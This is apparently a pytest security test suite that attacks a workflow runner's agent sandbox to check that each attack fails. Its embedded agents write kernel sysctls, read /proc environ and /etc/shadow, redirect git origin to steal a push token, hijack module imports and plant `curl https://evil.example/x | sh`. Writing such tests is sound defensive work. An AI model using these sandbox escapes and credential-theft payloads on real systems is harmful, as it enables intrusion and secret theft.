"""Attacks on issue 15 from the agent side, as a malicious agent author (someone who can push to
the workflows repo or open a pull request to it) would try them, and as the author of a pull
request to a project a workflow runs on.

Each test asserts the SECURE behaviour: a failing test is a finding. Every attack is driven
through the product's entry points: committed agents run by `runner run --repo`, approvals by
`runner approve`, revisions by `runner reconcile` and `runner validate --config`, pull-request
comments by the dispatcher on a fake GitHub. Runs are shared by module-scoped fixtures (one
runner invocation tries several attacks) to keep the file fast.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import os
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from runner.executors.local import pids_limiter
from runner.executors.sandbox import find_bwrap
from tests.security.test_plan_grants import DEPLOY, comments, posted
from tests.source.test_reconciler import server, store
from tests.test_prcheck import delivery, github, open_pr

__all__ = ["comments", "github", "server", "store"]  # fixtures

# The runner's own credentials, in its environment while agents run.
OWN = {
    "GH_TOKEN": "ghp-runner-own-token-7f3a9c",
    "GH_SECRET": "hook-secret-own-51d2e8",
    "OPS_TOKEN": "ops-admin-t0ken-a81b",
}
FORGES = """\
forges:
  - {name: github, kind: github, token_env: GH_TOKEN, webhook_secret_env: GH_SECRET}
api: {tokens: [{name: ops, role: admin, token_env: OPS_TOKEN}]}
"""


# -- helpers -------------------------------------------------------------------------------------
def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
        text=True,
    )
    return done.stdout.strip()


def commit(repo: Path, files: dict[str, str], message: str = "change") -> str:
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    if not (repo / ".git").exists():
        git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD")


def manifest(name: str, spec: str) -> str:
    return f"apiVersion: runner/v1\nkind: Agent\nmetadata: {{name: {name}}}\nspec: {spec}\n"


def workflow(name: str, steps: str, inputs: str = "") -> str:
    text = (
        "apiVersion: runner/v1\nkind: Workflow\n"
        f"metadata: {{name: {name}}}\n"
        "spec:\n  triggers: [{manual: {}}]\n"
    )
    if inputs:
        text += f"  inputs: {inputs}\n"
    return text + "  steps:\n" + "".join(f"    - {line}\n" for line in steps.splitlines())


class Site:
    """A runner's working directory (runner.yaml, runner.db, data dir) and its environment."""

    def __init__(self, root: Path, config: str, env: dict[str, str] | None = None) -> None:
        self.root = root
        root.mkdir(parents=True, exist_ok=True)
        (root / "runner.yaml").write_text(config)
        clean = {k: v for k, v in os.environ.items() if not k.startswith("RUNNER_")}
        self.env = {**clean, **OWN, "RUNNER_USER": "author", **(env or {})}

    def __call__(self, *args: str, user: str | None = None) -> subprocess.CompletedProcess[str]:
        env = dict(self.env)
        if user:
            env["RUNNER_USER"] = user
        return subprocess.run(
            [sys.executable, "-m", "runner", *args],
            cwd=self.root,
            env=env,
            capture_output=True,
            text=True,
            timeout=180,
        )

    def show(self, run: int = 1) -> dict[str, Any]:
        done = self("show", str(run), "--output", "json")
        assert done.returncode == 0, done.stdout + done.stderr
        shown: dict[str, Any] = json.loads(done.stdout)
        return shown

    def steps(self, run: int = 1) -> dict[str, dict[str, Any]]:
        return {step["id"]: step for step in self.show(run)["steps"]}

    def logs(self, run: int = 1) -> str:
        return self("logs", str(run)).stdout


def need_sandbox() -> None:
    bwrap, reason = find_bwrap()
    if bwrap is None:
        pytest.skip(f"no bubblewrap sandbox on this host: {reason}")


class Recorder(http.server.ThreadingHTTPServer):
    """An attacker's HTTP endpoint on loopback: records every request (path, headers, body),
    asks for Basic credentials once, then refuses."""

    def __init__(self) -> None:
        self.seen: list[dict[str, str]] = []
        seen = self.seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def _any(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace") if length else ""
                seen.append({"path": self.path, "headers": str(self.headers), "body": body})
                if self.headers.get("Authorization"):
                    self.send_response(403)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="git"')
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = _any

            def log_message(self, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    @property
    def port(self) -> int:
        return int(self.server_address[1])

    def text(self) -> str:
        return "\n".join(f"{r['path']}\n{r['headers']}\n{r['body']}" for r in self.seen)

    def close(self) -> None:
        self.shutdown()
        self.server_close()


def basic_forms(secret: str) -> list[str]:
    """How a secret travels in an HTTP request: itself, or inside Basic credentials."""
    forms = [secret]
    for user in ("x-access-token", "", "git", "oauth2"):
        forms.append(base64.b64encode(f"{user}:{secret}".encode()).decode())
    return forms


# == 1. the sandbox, tried from inside a committed agent ========================================
PROBER = r"""
import errno, json, os, sys, threading, time

given = json.load(open(os.environ["RUNNER_INPUT"]))
workspace = os.environ["RUNNER_WORKSPACE"]
report = {}


def attempt(name, action):
    try:
        report[name] = {"ok": True, "got": action()}
    except Exception as exc:
        report[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"}


def open_for_write(path):
    # Only opened, never written: the open is where the kernel checks the permission.
    fd = os.open(path, os.O_WRONLY)
    os.close(fd)
    return "opened for writing"


def environs():
    # Every environment in reach (pid 1, the parent, everything listed), reversed so that the
    # runner's masking cannot hide what was found from the test.
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() or pid == "self":
            try:
                found.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
            except OSError:
                pass
    try:
        ppid = os.getppid()
        found.append(open(f"/proc/{ppid}/environ", "rb").read().decode(errors="replace"))
    except OSError:
        pass
    return "\n".join(found)[::-1]


def threads(count):
    stop, started, refused = threading.Event(), [], None
    for _ in range(count):
        t = threading.Thread(target=stop.wait)
        try:
            t.start()
        except RuntimeError as exc:
            refused = str(exc)
            break
        started.append(t)
    stop.set()
    for t in started:
        t.join()
    return {"started": len(started), "refused": refused}


def detach(marker):
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            signal_free = [sys.executable, "-c", "import time; time.sleep(120)", marker]
            os.execv(sys.executable, signal_free)
        os._exit(0)
    os.waitpid(pid, 0)
    return "detached"


def borrowed():
    alternates = os.path.join(workspace, ".git", "objects", "info", "alternates")
    objects = open(alternates).read().strip()
    planted = os.path.join(objects, "planted")
    with open(planted, "w") as f:
        f.write("written by the agent")
    return planted


def point_alternates(target):
    alternates = os.path.join(workspace, ".git", "objects", "info", "alternates")
    with open(alternates, "w") as f:
        f.write(target + "\n")
    return target


attempt("core_pattern", lambda: open_for_write("/proc/sys/kernel/core_pattern"))
attempt("modprobe", lambda: open_for_write("/proc/sys/kernel/modprobe"))
attempt("environs", environs)
attempt("threads", lambda: threads(300))
attempt("borrowed_objects", borrowed)
attempt("alternates", lambda: point_alternates(given["host"] + "\n" + given["site"]))
attempt("detach", lambda: detach(given["marker"]))
# symlinks committed to the project (the workspace) and to the agent's own folder, pointing at
# host files: bound by bwrap as folders, they resolve inside the sandbox, where nothing is
attempt("workspace_link", lambda: open(os.path.join(workspace, "db-link"), "rb").read(16).hex())
agent_dir = os.environ["RUNNER_AGENT_DIR"]
attempt("agent_dir_link", lambda: open(os.path.join(agent_dir, "host-link")).read()[::-1])
json.dump(report, open(os.environ["RUNNER_OUTPUT"], "w"))
"""

# A later step of the same run: does the alternates file written above show it anything?
READER = r"""
import json, os
given = json.load(open(os.environ["RUNNER_INPUT"]))
site, host = given["site"], given["host"]
report = {}
for name, action in {
    "runner_db": lambda: open(os.path.join(site, "runner.db"), "rb").read(16).hex(),
    "host_file": lambda: open(os.path.join(host, "config.json")).read()[::-1],
}.items():
    try:
        report[name] = {"ok": True, "got": action()}
    except Exception as exc:
        report[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"}
json.dump(report, open(os.environ["RUNNER_OUTPUT"], "w"))
"""

# The io folder is writable: its output file can be a symlink the runner follows, as root, on
# the host, outside the sandbox.
SYMLINKER = r"""
import json, os
given = json.load(open(os.environ["RUNNER_INPUT"]))
os.symlink(given["target"], os.environ["RUNNER_OUTPUT"])
"""

BIG_OUTPUT = r"""
import os
with open(os.environ["RUNNER_OUTPUT"], "w") as f:
    f.write('{"blob": "' + "A" * (24 * 1024 * 1024) + '"}')
"""

# A manifest may set its own process limit: 100000 here.
FORKER = r"""
import errno, json, os, time
children, refused = [], None
for _ in range(400):
    try:
        pid = os.fork()
    except OSError as exc:
        refused = errno.errorcode.get(exc.errno, str(exc.errno))
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
json.dump({"started": len(children), "refused": refused}, open(os.environ["RUNNER_OUTPUT"], "w"))
"""

# Not Python: a shell command line, as any agent may declare.
SHELL_COMMAND = (
    "if cat /etc/shadow >/dev/null 2>&1; then echo SHADOW-READ; else echo SHADOW-DENIED; fi;"
    " for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f | rev; done;"
    ' echo {} > "$RUNNER_OUTPUT"'
)

SANDBOX_WORKFLOW = workflow(
    "attack",
    """\
{id: probe, agent: prober, with: {site: "${{ inputs.site }}", host: "${{ inputs.host }}",\
 marker: "${{ inputs.marker }}"}}
{id: read, agent: reader, needs: [probe],\
 with: {site: "${{ inputs.site }}", host: "${{ inputs.host }}"}}
{id: link, agent: symlinker, with: {target: "${{ inputs.target }}"}}
{id: big, agent: bigout}
{id: shell, agent: shell}""",
    inputs="{type: object, properties: {site: {type: string}, marker: {type: string},"
    " target: {type: string}, host: {type: string}}}",
)

# A credential file of the host that is JSON, as a registry login (~/.docker/config.json) or a
# cloud service-account key is; outside everything the sandbox shows.
HOST_JSON = {"auths": {"registry.example.com": {"auth": "aG9zdC1yZWdpc3RyeS1zZWNyZXQ="}}}


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    need_sandbox()
    base = tmp_path_factory.mktemp("attack-sandbox")
    repo, project = base / "workflows", base / "project"
    commit(
        repo,
        {
            "agents/prober/agent.yaml": manifest(
                "prober", "{command: [python, main.py], resources: {pids: 50}}"
            ),
            "agents/prober/main.py": PROBER,
            "agents/reader/agent.yaml": manifest("reader", "{command: [python, main.py]}"),
            "agents/reader/main.py": READER,
            "agents/symlinker/agent.yaml": manifest("symlinker", "{command: [python, main.py]}"),
            "agents/symlinker/main.py": SYMLINKER,
            "agents/bigout/agent.yaml": manifest("bigout", "{command: [python, main.py]}"),
            "agents/bigout/main.py": BIG_OUTPUT,
            "agents/shell/agent.yaml": manifest(
                "shell", json.dumps({"command": ["/bin/sh", "-c", SHELL_COMMAND]})
            ),
            "workflows/attack.yaml": SANDBOX_WORKFLOW,
        },
    )
    site = Site(base / "site", FORGES + "data_dir: data\n")
    host_json = base / "host" / "config.json"
    host_json.parent.mkdir()
    host_json.write_text(json.dumps(HOST_JSON))
    (repo / "agents" / "prober" / "host-link").symlink_to(host_json)
    commit(repo, {})
    project.mkdir()
    (project / "db-link").symlink_to(site.root / "runner.db")
    commit(project, {"README.md": "a project\n"})
    marker = f"runner-attack-detached-{os.getpid()}-{id(base)}"
    inputs = {
        "site": str(site.root),
        "marker": marker,
        "target": str(host_json),
        "host": str(host_json.parent),
    }
    given = [arg for k, v in inputs.items() for arg in ("--input", f"{k}={v}")]
    done = site("run", "attack", "--repo", str(repo), "--workspace", str(project), *given)
    survivors: list[int] = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmdline:
                survivors.append(int(entry))
    try:
        yield {
            "done": done,
            "steps": site.steps(),
            "logs": site.logs(),
            "survivors": survivors,
            "site": site,
        }
    finally:
        for pid in survivors:  # processes this test's agent started
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)


def test_agent_cannot_write_kernel_sysctls(sandbox: dict[str, Any]) -> None:
    """The step runs as real uid 0 (the runner is root, no user namespace) with capabilities
    dropped: /proc/sys answers to uid 0, and bwrap leaves /proc/sys writable. core_pattern (a
    pipe to a program in the workspace, whose path is the same on the host) or modprobe would
    run the agent's program as root on the host. Only opened here, never written."""
    report = sandbox["steps"]["probe"]["outputs"]
    assert report is not None, sandbox["logs"]
    assert report["core_pattern"]["ok"] is False, report["core_pattern"]
    assert report["modprobe"]["ok"] is False, report["modprobe"]


def test_agent_sees_no_environment_but_its_own(sandbox: dict[str, Any]) -> None:
    report = sandbox["steps"]["probe"]["outputs"]
    found = report["environs"]["got"][::-1]
    assert "RUNNER_WORKSPACE=" in found  # it did read its own environment
    for value in OWN.values():
        assert value not in found


def test_symlinks_committed_to_the_workspace_or_agent_dir_reach_nothing(
    sandbox: dict[str, Any],
) -> None:
    report = sandbox["steps"]["probe"]["outputs"]
    assert (sandbox["site"].root / "runner.db").is_file()  # there was a database to steal
    assert report["workspace_link"]["ok"] is False, report["workspace_link"]
    assert report["agent_dir_link"]["ok"] is False, report["agent_dir_link"]


def test_a_shell_command_is_sandboxed_like_python(sandbox: dict[str, Any]) -> None:
    assert sandbox["steps"]["shell"]["status"] == "succeeded", sandbox["logs"]
    assert "[shell] SHADOW-DENIED" in sandbox["logs"]
    assert "RUNNER_WORKSPACE"[::-1] in sandbox["logs"]  # it read its own environment
    for value in OWN.values():
        assert value[::-1] not in sandbox["logs"]


def test_threads_count_against_the_process_limit(sandbox: dict[str, Any]) -> None:
    limiter = pids_limiter(find_bwrap()[0])
    if limiter.why_not:
        pytest.skip(f"no process-count limit on this host: {limiter.why_not}")
    threads = sandbox["steps"]["probe"]["outputs"]["threads"]["got"]
    assert threads["refused"], threads
    assert threads["started"] < 50, threads


def test_a_detached_process_does_not_outlive_its_step(sandbox: dict[str, Any]) -> None:
    report = sandbox["steps"]["probe"]["outputs"]
    assert report["detach"]["got"] == "detached"
    assert sandbox["survivors"] == []


def test_borrowed_git_objects_are_read_only(sandbox: dict[str, Any]) -> None:
    report = sandbox["steps"]["probe"]["outputs"]["borrowed_objects"]
    assert report["ok"] is False, report
    assert "Read-only file system" in report["error"], report


def test_an_alternates_file_written_by_a_step_shows_the_next_step_nothing(
    sandbox: dict[str, Any],
) -> None:
    assert sandbox["steps"]["probe"]["outputs"]["alternates"]["ok"] is True
    read = sandbox["steps"]["read"]["outputs"]
    assert read["runner_db"]["ok"] is False, read
    assert read["host_file"]["ok"] is False, read


def test_output_file_symlinked_to_a_host_file_is_not_read(sandbox: dict[str, Any]) -> None:
    """The agent replaces $RUNNER_OUTPUT with a symlink to a host path: the runner reads it as
    root outside the sandbox, and a JSON file there (a registry login, a cloud key) becomes the
    step's outputs, in the database and the API."""
    step = sandbox["steps"]["link"]
    assert step["outputs"] != HOST_JSON
    assert "aG9zdC1yZWdpc3RyeS1zZWNyZXQ=" not in json.dumps(sandbox["site"].show())


def test_a_huge_output_is_refused_not_stored(sandbox: dict[str, Any]) -> None:
    """Logs are capped (5 MiB); outputs are not: the runner reads the whole file into memory
    (several times its size while parsing and masking) and stores it in the database."""
    step = sandbox["steps"]["big"]
    assert step["status"] == "failed", {k: v for k, v in step.items() if k != "outputs"}
    db = sandbox["site"].root / "runner.db"
    assert db.stat().st_size < 10 * 1024 * 1024


@pytest.fixture(scope="module")
def forking(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The forker in a run of its own: a ceiling that refuses its revision must not keep the
    other sandbox attacks from running."""
    need_sandbox()
    base = tmp_path_factory.mktemp("attack-fork")
    repo = base / "workflows"
    commit(
        repo,
        {
            "agents/forker/agent.yaml": manifest(
                "forker", "{command: [python, main.py], resources: {pids: 100000}}"
            ),
            "agents/forker/main.py": FORKER,
            "workflows/fork.yaml": workflow("fork", "{id: fork, agent: forker}"),
        },
    )
    site = Site(base / "site", FORGES + "data_dir: data\n")
    return {"done": site("run", "fork", "--repo", str(repo)), "site": site}


def test_a_manifest_cannot_raise_its_own_process_limit_without_the_operator(
    forking: dict[str, Any],
) -> None:
    """`resources.pids` comes from the agent's own manifest with no ceiling: `pids: 100000`
    turns the limit off (and `memory:` likewise sets RLIMIT_AS). A limit the attacker sets is
    no limit; the configuration should cap it, or raising it should need the configuration's
    consent as network does."""
    # The configuration caps it (executor.max_pids, 1024 by default): the revision asking
    # for 100000 is refused at that line and never runs. (That a limit within the ceiling
    # holds is test_sandbox.py's test_300_processes_are_refused_under_resources_pids_50.)
    done, site = forking["done"], forking["site"]
    assert done.returncode == 1, done.stdout + done.stderr
    assert "100000 processes is over executor.max_pids (1024)" in done.stdout
    assert site("show", "1").returncode == 1  # no run was started


# == 2. masking ==================================================================================
LEAKY = r"""
import json, os, subprocess
pin, token = os.environ["DEMO_PIN"], os.environ["DEMO_TOKEN"]
# A long token through coreutils' base64, which wraps its output at 76 columns.
print(subprocess.run(["base64"], input=token.encode(), capture_output=True).stdout.decode())
with open(os.path.join(os.environ["RUNNER_WORKSPACE"], "token.txt"), "w") as f:
    f.write(token)
json.dump(
    {"pin": int(pin), "token": token, token: "as a key", "pin_text": pin},
    open(os.environ["RUNNER_OUTPUT"], "w"),
)
"""
# An agent with no secrets downstream: what reaches it through the workspace and `${{ }}`.
SNOOP = r"""
import json, os
given = json.load(open(os.environ["RUNNER_INPUT"]))
stolen = open(os.path.join(os.environ["RUNNER_WORKSPACE"], "token.txt")).read()
print("from the workspace:", stolen)
json.dump({"given_reversed": given["token"][::-1]}, open(os.environ["RUNNER_OUTPUT"], "w"))
"""
PIN = "8675309123"  # a numeric secret: a PIN, an account number
LONG_TOKEN = "tok_" + "".join(f"{i:02d}q" for i in range(30))  # 94 characters


@pytest.fixture(scope="module")
def masking(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    need_sandbox()
    base = tmp_path_factory.mktemp("attack-masking")
    repo = base / "workflows"
    commit(
        repo,
        {
            "agents/leaky/agent.yaml": manifest(
                "leaky", "{command: [python, main.py], secrets: [DEMO_PIN, DEMO_TOKEN]}"
            ),
            "agents/leaky/main.py": LEAKY,
            "agents/snoop/agent.yaml": manifest("snoop", "{command: [python, main.py]}"),
            "agents/snoop/main.py": SNOOP,
            "workflows/leak.yaml": workflow(
                "leak",
                "{id: leak, agent: leaky}\n"
                "{id: snoop, agent: snoop, needs: [leak],"
                ' with: {token: "${{ steps.leak.outputs.token }}"}}',
            ),
        },
    )
    site = Site(
        base / "site",
        FORGES
        + "secrets:\n"
        + "  - {name: DEMO_PIN, env: PIN_SOURCE, agents: [leaky]}\n"
        + "  - {name: DEMO_TOKEN, env: TOKEN_SOURCE, agents: [leaky]}\n",
        env={"PIN_SOURCE": PIN, "TOKEN_SOURCE": LONG_TOKEN},
    )
    done = site("run", "leak", "--repo", str(repo))
    assert done.returncode == 0, done.stdout + done.stderr
    shown = site.show()
    return {"shown": shown, "steps": site.steps(), "logs": site.logs(), "site": site}


def test_a_numeric_secret_output_as_a_number_is_masked(masking: dict[str, Any]) -> None:
    """Masking walks the strings (and keys) of an output; a secret that is a number, output
    as a JSON number, is stored and served as it is."""
    outputs = masking["steps"]["leak"]["outputs"]
    assert outputs["pin_text"] == "***"  # the same value as text is masked
    assert PIN not in json.dumps(masking["shown"]), outputs["pin"]


def test_wrapped_base64_of_a_long_secret_is_masked(masking: dict[str, Any]) -> None:
    """`base64` (coreutils) wraps at 76 columns: every line of the encoding of a secret longer
    than 57 bytes is a fragment no masked form matches."""
    encoded = base64.b64encode(LONG_TOKEN.encode()).decode()
    first_line = encoded[:76]
    assert first_line not in masking["logs"], masking["logs"]


def test_secret_in_output_keys_and_values_is_masked(masking: dict[str, Any]) -> None:
    outputs = masking["steps"]["leak"]["outputs"]
    assert outputs["token"] == "***"
    assert "***" in outputs
    assert LONG_TOKEN not in json.dumps(outputs)


def test_a_secret_left_in_the_workspace_or_passed_by_expression_stays_masked(
    masking: dict[str, Any],
) -> None:
    """Documented scope: a granted agent is trusted with its secret, so what it writes to the
    shared workspace is its doing; but what a later agent without the grant prints of it is
    masked, and `${{ steps.x.outputs }}` carries only the masked value."""
    assert "from the workspace: ***" in masking["logs"]
    assert LONG_TOKEN not in masking["logs"]
    assert masking["steps"]["snoop"]["outputs"] == {"given_reversed": "***"}


# == 3. built-in agents with secrets and network, driven by a workflow author ===================
PREP = r"""
import json, os, subprocess
given = json.load(open(os.environ["RUNNER_INPUT"]))
workspace = os.environ["RUNNER_WORKSPACE"]
if given.get("origin"):  # where the patcher will push, with its token
    command = ["git", "config", "remote.origin.url", given["origin"]]
    subprocess.run(command, cwd=workspace, check=True)
with open(os.path.join(workspace, "app.py"), "a") as f:  # a change of its own, to be pushed
    f.write("import os; os.system('curl https://evil.example/x | sh')  # planted\n")
json.dump({}, open(os.environ["RUNNER_OUTPUT"], "w"))
"""
PATCH_WORKFLOW = workflow(
    "fix",
    '{id: prep, agent: prep, with: {origin: "${{ inputs.origin }}"}}\n'
    '{id: patch, agent: patcher, needs: [prep], with: {push: "${{ inputs.push }}"}}',
    inputs="{type: object, properties: {origin: {type: string, default: ''},"
    " push: {type: boolean, default: true}}}",
)
# The project a workflow runs on: a pull request's head, say. ruff.py at its root is picked up
# by `python -m ruff`, which the patcher runs with the workspace as working directory.
SHADOW_RUFF = """\
import os
print("SHADOW RUFF RAN", os.environ.get("GIT_PUSH_TOKEN", "")[::-1])
"""
PUSH_TOKEN = "push-token-for-the-patcher-0042"


def patch_run(
    base: Path, project_files: dict[str, str], origin: str = "", push: bool = True
) -> dict[str, Any]:
    repo, project = base / "workflows", base / "project"
    commit(
        repo,
        {
            "agents/prep/agent.yaml": manifest("prep", "{command: [python, main.py]}"),
            "agents/prep/main.py": PREP,
            "workflows/fix.yaml": PATCH_WORKFLOW,
        },
    )
    commit(project, {"app.py": "VALUE = 1\n", **project_files})
    site = Site(
        base / "site",
        FORGES + "secrets: [{name: GIT_PUSH_TOKEN, env: PUSH_SOURCE, agents: [patcher]}]\n",
        env={"PUSH_SOURCE": PUSH_TOKEN},
    )
    given = ["--input", f"origin={origin}"] if origin else []
    given += ["--input", f"push={'true' if push else 'false'}"]
    started = site("run", "fix", "--repo", str(repo), "--workspace", str(project), *given)
    assert started.returncode == 3, started.stdout + started.stderr  # waits for approval
    approved = site("approve", "1", "--comment", "lint fixes only", user="reviewer")
    return {
        "approved": approved,
        "steps": site.steps(),
        "logs": site.logs(),
        "project": project,
    }


@pytest.fixture(scope="module")
def stolen_push(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    need_sandbox()
    recorder = Recorder()
    try:
        origin = f"http://127.0.0.1:{recorder.port}/acme/project.git"
        # a fix to make (an unused import), so that the patcher has something to push
        base = tmp_path_factory.mktemp("attack-origin")
        ran = patch_run(base, {"lint.py": "import sys\n"}, origin)
        yield {**ran, "recorder": recorder}
    finally:
        recorder.close()


def test_an_earlier_step_cannot_send_the_patchers_push_token_elsewhere(
    stolen_push: dict[str, Any],
) -> None:
    """An agent with no secret and no network rewrites the workspace's `origin`; the approved
    patcher then pushes there, answering the server's Basic challenge with GIT_PUSH_TOKEN."""
    # the patcher did push, to the run's own repository: the trigger's clone_url, here the
    # project's path, which the sandbox does not show (so the push fails there)
    assert f"runner/patch-1 to {stolen_push['project']}" in stolen_push["logs"]
    received = stolen_push["recorder"].text()
    for form in basic_forms(PUSH_TOKEN):
        assert form not in received


@pytest.fixture(scope="module")
def shadowed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    need_sandbox()
    # not pushed: the commit the patcher made is in its outputs
    return patch_run(tmp_path_factory.mktemp("attack-shadow"), {"ruff.py": SHADOW_RUFF}, push=False)


def test_the_projects_files_do_not_run_inside_the_patcher(shadowed: dict[str, Any]) -> None:
    """A pull request to the *project* adds ruff.py; `python -m ruff` run with the workspace as
    working directory imports it instead of ruff, inside the patcher, which holds the push
    token and the network."""
    assert "SHADOW RUFF RAN" not in shadowed["logs"]
    assert PUSH_TOKEN[::-1] not in shadowed["logs"]


def test_the_patcher_pushes_only_its_own_fixes(shadowed: dict[str, Any]) -> None:
    """The patcher commits every modified file of the workspace, so what an earlier step with
    no grant wrote is committed and pushed with the patcher's token, behind an approval given
    for lint fixes."""
    patch = shadowed["steps"]["patch"]["outputs"]
    assert patch is not None, shadowed["logs"]
    assert "# planted" not in patch["patch"], patch
    assert "app.py" not in patch["files"], patch


NOTIFY_WORKFLOW = workflow(
    "notify",
    '{id: tell, agent: notifier, with: {title: "${{ inputs.title }}", sinks: ['
    '{kind: webhook, url: "${{ inputs.url }}", secret_env: SLACK_WEBHOOK_URL},'
    '{kind: slack, url: "${{ inputs.url }}", secret_env: SLACK_WEBHOOK_URL},'
    '{kind: webhook, url: "${{ inputs.url }}", secret_env: NOTIFIER_WEBHOOK_SECRET}]}}',
    inputs="{type: object, properties: {url: {type: string}, title: {type: string}}}",
)
SLACK_URL = "https://hooks.slack.example/services/T000/B000/slack-secret-path-123"


def test_the_notifier_cannot_be_pointed_at_an_attacker_with_its_secrets(
    tmp_path: Path,
) -> None:
    """The workflow author names the sinks and which granted variable each uses: the
    attacker's URL gets signatures and messages, never a secret value."""
    need_sandbox()
    repo = tmp_path / "workflows"
    commit(repo, {"workflows/notify.yaml": NOTIFY_WORKFLOW})
    site = Site(
        tmp_path / "site",
        FORGES
        + "secrets:\n"
        + "  - {name: SLACK_WEBHOOK_URL, env: SLACK_SOURCE, agents: [notifier]}\n"
        + "  - {name: NOTIFIER_WEBHOOK_SECRET, env: SIGNING_SOURCE, agents: [notifier]}\n",
        env={"SLACK_SOURCE": SLACK_URL, "SIGNING_SOURCE": "signing-secret-9911"},
    )
    recorder = Recorder()
    try:
        url = f"http://127.0.0.1:{recorder.port}/collect"
        ran = site("run", "notify", "--repo", str(repo), "--input", f"url={url}")
        received = recorder.text()
    finally:
        recorder.close()
    assert len(recorder.seen) == 3, ran.stdout + ran.stderr + site.logs()  # legitimate path
    for secret in (SLACK_URL, "signing-secret-9911", "slack-secret-path-123"):
        assert secret not in received
        assert base64.b64encode(secret.encode()).decode() not in received


# == 4. what a revision may ask for ==============================================================
SHADOWS = {
    # a repo-local agent taking a built-in's name, in its own folder and through another folder
    "agents/notifier/agent.yaml": manifest("notifier", "{command: [python, main.py]}"),
    "agents/notifier/main.py": "print('not the real notifier')\n",
    "agents/helper/agent.yaml": manifest("patcher", "{command: [python, main.py]}"),
    "agents/helper/main.py": "print('not the real patcher')\n",
    "agents/other/agent.yml": manifest("other", "{command: [python, main.py]}"),
    "agents/other/agent.yaml": manifest("other", "{command: [python, main.py], secrets: [X]}"),
    "workflows/use.yaml": workflow(
        "use", "{id: a, agent: notifier}\n{id: b, agent: patcher}\n{id: c, agent: other}"
    )
    + "---\n"
    + manifest("code-reviewer", "{command: [python, main.py]}"),
}


def test_builtin_agents_cannot_be_shadowed_and_validate_agrees_with_reconcile(
    tmp_path: Path,
) -> None:
    repo = tmp_path / "workflows"
    commit(repo, SHADOWS)
    site = Site(
        tmp_path / "site",
        f"sources: [{{name: main, url: '{repo}', branch: main}}]\n" + FORGES,
    )
    reconciled = site("reconcile", "--once")
    assert reconciled.returncode == 1, reconciled.stdout + reconciled.stderr
    (source,) = json.loads(site("sources", "--output", "json").stdout)
    assert source["applied_revision"] is None
    messages = "\n".join(f"{e['path']}:{e['line']}: {e['message']}" for e in source["errors"])
    assert "'notifier' is a built-in agent" in messages
    assert "'patcher' is a built-in agent" in messages or "is in directory 'helper'" in messages
    assert "agents/other/agent.yml" in messages  # two manifests, one name
    checked = site("validate", str(repo), "--config", "runner.yaml")
    assert checked.returncode == 1
    for line in ("agents/notifier/agent.yaml", "agents/helper/agent.yaml", "workflows/use.yaml"):
        assert line in checked.stdout, checked.stdout


@pytest.mark.parametrize(
    ("grant", "asked"),
    [
        ("{name: DEPLOY_TOKEN, env: DEPLOY, agents: []}", "DEPLOY_TOKEN"),  # granted to nobody
        ("{name: DEPLOY_TOKEN, env: DEPLOY, agents: [Deployer]}", "DEPLOY_TOKEN"),  # name case
        ("{name: DEPLOY_TOKEN, env: DEPLOY}", "deploy_token"),  # secret name case
        ("{name: DEPLOY_TOKEN, env: DEPLOY, agents: [deployer], workflows: []}", "DEPLOY_TOKEN"),
    ],
)
def test_near_miss_grants_grant_nothing_in_validate_and_reconcile(
    tmp_path: Path, grant: str, asked: str
) -> None:
    repo = tmp_path / "workflows"
    commit(
        repo,
        {
            "agents/deployer/agent.yaml": manifest(
                "deployer", f"{{command: [python, main.py], secrets: [{asked}]}}"
            ),
            "agents/deployer/main.py": "print('x')\n",
            "workflows/deploy.yaml": workflow("deploy", "{id: go, agent: deployer}"),
        },
    )
    site = Site(
        tmp_path / "site",
        f"sources: [{{name: main, url: '{repo}', branch: main}}]\n"
        + FORGES
        + f"secrets: [{grant}]\n",
    )
    checked = site("validate", str(repo), "--config", "runner.yaml")
    assert checked.returncode == 1, checked.stdout + checked.stderr
    reconciled = site("reconcile", "--once")
    assert reconciled.returncode == 1, reconciled.stdout + reconciled.stderr
    (source,) = json.loads(site("sources", "--output", "json").stdout)
    assert source["applied_revision"] is None


REPORTER = r"""
import hashlib, json, os
value = os.environ.get("CLONE_URL", "")
digest = hashlib.sha256(value.encode()).hexdigest()
json.dump({"digest": digest}, open(os.environ["RUNNER_OUTPUT"], "w"))
"""


@pytest.mark.parametrize(
    "how",
    ["embedded", "hardlink", "symlink"],
)
